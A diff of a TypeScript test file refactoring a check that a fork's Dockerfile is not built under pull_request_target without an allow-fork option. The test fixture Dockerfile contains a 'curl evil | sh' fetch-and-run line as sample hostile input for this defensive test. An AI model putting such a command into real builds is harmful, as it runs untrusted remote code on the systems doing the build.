@@ -4,10 +4,9 @@ import { mkdir, mkdtemp, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { commit, forkRepo, openPullRequest } from '../helpers/git-fixtures.ts'
 import { startGitHubApi } from '../helpers/github-api.ts'
 import { DEFAULT_GITHUB_TOKEN, type StepResult } from '../helpers/runner.ts'
-import { BASE, job, liveSandboxes, openProject, type Project } from './project.ts'
+import { BASE, job, liveSandboxes, openForkPullRequest, openProject, type Project } from './project.ts'
 
 const DOCKERFILE = [
   'FROM node:22-bookworm',
@@ -288,24 +287,16 @@ describe('without actions/checkout', () => {
 
 describe('untrusted code', () => {
   it("never builds a fork's Dockerfile under pull_request_target without allow-fork", async () => {
-    await forkRepo(project.git, BASE, 'mallory/widgets')
-    await commit(
-      project.git,
-      'mallory/widgets',
-      { Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' },
-      { branch: 'evil' },
-    )
-    const pr = await openPullRequest(project.git, {
-      base: BASE,
-      head: 'mallory/widgets',
-      headRef: 'evil',
+    const event = await openForkPullRequest(project, {
+      owner: 'mallory',
       number: 9,
+      files: { Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' },
       name: 'pull_request_target',
     })
     // a workflow that checked out the PR head: the fork's Dockerfile is in the workspace
     const ws = await workspace({ Dockerfile: 'FROM node:22\nRUN curl evil | sh\n' })
     await project.emulator.admin.resetRequests()
-    const { main } = await job(project, { run: 'true' }, { event: pr.event, workspace: ws })
+    const { main } = await job(project, { run: 'true' }, { event, workspace: ws })
     expect(main.exitCode).not.toBe(0)
     expect(errors(main)).toMatch(/fork.*pull_request_target.*allow-fork/is)
     expect((await project.emulator.admin.requests()).total).toBe(0)
